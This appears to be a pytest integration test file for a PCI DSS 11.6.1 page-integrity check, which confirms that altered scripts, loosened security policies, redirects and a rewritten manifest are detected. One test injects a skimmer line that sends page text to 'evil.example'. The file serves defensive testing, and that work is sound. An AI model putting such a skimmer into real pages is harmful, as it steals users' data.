"""The page check (PCI DSS 11.6.1): the page the edge serves is compared with the inventory `make deploy` put
in the page bucket. The bucket is moto's; the edge is the page as `make dev` serves it, over loopback HTTP,
changed on its way out where a test says so."""

from __future__ import annotations

import json
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field

import pytest

from billing.app import PAGE_CHECK_EVENT
from billing.errors import ConfigurationUnavailable
from local.api import HttpResponse, LoopbackServer
from local.dev import WEB_ROOT, SiteHandler, StaticSite
from local.lambda_context import LocalLambdaContext
from local.page import MANIFEST, SAME_ORIGIN, integrity, ship
from tests.integration.support import emitted_metrics, new_container

BUCKET = "page-check-test"


@dataclass
class Edge:
    """The deployed page as the edge serves it; `change(path, how)` alters one answer on its way out."""

    site: StaticSite = field(default_factory=lambda: StaticSite(WEB_ROOT, SAME_ORIGIN))
    changes: dict[str, Callable[[HttpResponse], None]] = field(default_factory=dict)

    def handle(self, method: str, target: str) -> HttpResponse:
        answer = self.site.handle(method, target)
        if target.lstrip("/") in self.changes:
            self.changes[target.lstrip("/")](answer)
        return answer


@pytest.fixture
def edge(stack, monkeypatch: pytest.MonkeyPatch) -> Iterator[Edge]:
    """A deployed page: its inventory in the bucket, the page served on loopback, the function told both."""
    s3 = stack.client("s3")
    s3.create_bucket(Bucket=BUCKET, CreateBucketConfiguration={"LocationConstraint": "ap-northeast-2"})
    deployed = ship(WEB_ROOT, SAME_ORIGIN)
    s3.put_object(Bucket=BUCKET, Key=MANIFEST, Body=deployed.manifest())
    served = Edge()
    with LoopbackServer(SiteHandler, 0) as server:
        server.start(served)
        monkeypatch.setenv("PAGE_URL", server.url)
        monkeypatch.setenv("PAGE_BUCKET", BUCKET)
        monkeypatch.setenv("PAGE_MANIFEST_DIGEST", deployed.manifest_digest())
        new_container()
        yield served
    for item in s3.list_objects_v2(Bucket=BUCKET).get("Contents", []):
        s3.delete_object(Bucket=BUCKET, Key=item["Key"])
    s3.delete_bucket(Bucket=BUCKET)


def check(timeout_seconds: float = 25) -> dict[str, object]:
    from billing.app import lambda_handler

    context = LocalLambdaContext(timeout_seconds=timeout_seconds)
    result: dict[str, object] = lambda_handler(dict(PAGE_CHECK_EVENT), context)
    return result


def changed_lines(logs) -> list[tuple[str, list[str]]]:
    lines = [json.loads(line) for line in logs.getvalue().splitlines() if '"page changed"' in line]
    assert {(line["level"], line["outcome"]) for line in lines} <= {("ERROR", "PAGE_CHANGED")}
    return [(line["path"], line["error_fields"]) for line in lines]


def test_the_page_as_deployed_passes_and_says_so(edge: Edge, capsys, logs) -> None:
    report = check()
    assert report == {"status": "success", "checked": len(ship(WEB_ROOT, SAME_ORIGIN).files), "changed": []}
    # Sent on every run, so its alarm also sees a check that stopped running
    assert emitted_metrics(capsys.readouterr().out)["PageChanged"] == 0
    assert changed_lines(logs) == []


def test_a_script_changed_on_the_way_is_found_and_named(edge: Edge, capsys, logs) -> None:
    def skim(answer: HttpResponse) -> None:
        answer.body += b"\nfetch('https://evil.example/'+document.body.innerText);\n"

    edge.changes["format.js"] = skim
    assert check()["changed"] == ["format.js"]
    assert emitted_metrics(capsys.readouterr().out)["PageChanged"] == 1
    assert changed_lines(logs) == [("format.js", ["content"])]
    assert "evil.example" not in logs.getvalue()  # the path, never the content


def test_a_page_served_under_another_policy_is_found(edge: Edge, logs) -> None:
    def loosen(answer: HttpResponse) -> None:
        answer.headers["content-security-policy"] = "default-src *"

    edge.changes["index.html"] = loosen
    assert check()["changed"] == ["index.html"]
    assert changed_lines(logs) == [("index.html", ["content-security-policy"])]


def test_a_file_the_edge_no_longer_serves_is_found(edge: Edge, logs) -> None:
    def remove(answer: HttpResponse) -> None:
        answer.status, answer.body = 404, b"Not Found\n"

    edge.changes["api.js"] = remove
    assert check()["changed"] == ["api.js"]
    assert changed_lines(logs) == [("api.js", ["status 404"])]


def test_an_inventory_rewritten_with_the_page_is_found(edge: Edge, stack, capsys, logs) -> None:
    # Given someone who can write to the page's bucket, changing a script and its hash in the inventory
    def skim(answer: HttpResponse) -> None:
        answer.body += b"\n// skimmer\n"

    edge.changes["format.js"] = skim
    inventory = json.loads(ship(WEB_ROOT, SAME_ORIGIN).manifest())
    inventory["files"]["format.js"] = integrity(edge.handle("GET", "/format.js").body)
    stack.client("s3").put_object(Bucket=BUCKET, Key=MANIFEST, Body=json.dumps(inventory).encode())

    # Then the inventory itself is reported changed (the stack keeps its hash), and nothing is compared
    assert check() == {"status": "success", "checked": 1, "changed": [MANIFEST]}
    assert emitted_metrics(capsys.readouterr().out)["PageChanged"] == 1
    assert changed_lines(logs) == [(MANIFEST, ["content"])]


def test_a_file_the_edge_sends_elsewhere_is_found(edge: Edge, logs) -> None:
    # The same bytes one redirect away are still not what was deployed at that address
    def elsewhere(answer: HttpResponse) -> None:
        answer.status, answer.headers["location"] = 302, "/index.html?moved"

    edge.changes["index.html"] = elsewhere
    assert check()["changed"] == ["index.html"]
    assert changed_lines(logs) == [("index.html", ["status 302"])]


def test_an_edge_too_slow_for_the_invocation_fails_it(edge: Edge) -> None:
    def slow(answer: HttpResponse) -> None:
        time.sleep(3)

    edge.changes["app.js"] = slow
    # Three seconds of invocation (one kept in reserve): each fetch may take what is left, not more
    with pytest.raises(ConfigurationUnavailable, match=r"^the edge did not answer \(ReadTimeout\)$"):
        check(timeout_seconds=3)


def test_an_inventory_that_is_not_one_fails_the_check(edge: Edge, stack, monkeypatch) -> None:
    garbage = b'{"files": "none"}'
    stack.client("s3").put_object(Bucket=BUCKET, Key=MANIFEST, Body=garbage)
    monkeypatch.setenv("PAGE_MANIFEST_DIGEST", integrity(garbage))  # pinned, yet no inventory
    new_container()
    with pytest.raises(ConfigurationUnavailable, match=r"^the page's manifest is not local/page.py's$"):
        check()


def test_a_check_that_cannot_run_fails_the_invocation(edge: Edge, stack, monkeypatch, logs) -> None:
    # No inventory in the bucket (the page was never deployed with make deploy EDGE=1)
    stack.client("s3").delete_object(Bucket=BUCKET, Key=MANIFEST)
    with pytest.raises(ConfigurationUnavailable, match=r"^cannot read the page's manifest \(NoSuchKey\)$"):
        check()
    # The edge does not answer
    stack.client("s3").put_object(Bucket=BUCKET, Key=MANIFEST, Body=ship(WEB_ROOT, SAME_ORIGIN).manifest())
    monkeypatch.setenv("PAGE_URL", "http://127.0.0.1:9")
    new_container()
    with pytest.raises(ConfigurationUnavailable, match=r"^the edge did not answer \(ConnectionError\)$"):
        check()
    # No hash of the inventory in the stack (the page was not deployed with make deploy EDGE=1)
    monkeypatch.setenv("PAGE_MANIFEST_DIGEST", "")
    new_container()
    with pytest.raises(ConfigurationUnavailable, match="no page deployed"):
        check()
    # A stack without the edge has no page to check
    monkeypatch.setenv("PAGE_URL", "")
    new_container()
    with pytest.raises(ConfigurationUnavailable, match="no edge"):
        check()
    failures = [json.loads(line) for line in logs.getvalue().splitlines()]
    assert [f["outcome"] for f in failures if f["message"] == "page check failed"] == [
        "SERVICE_UNAVAILABLE"
    ] * 4
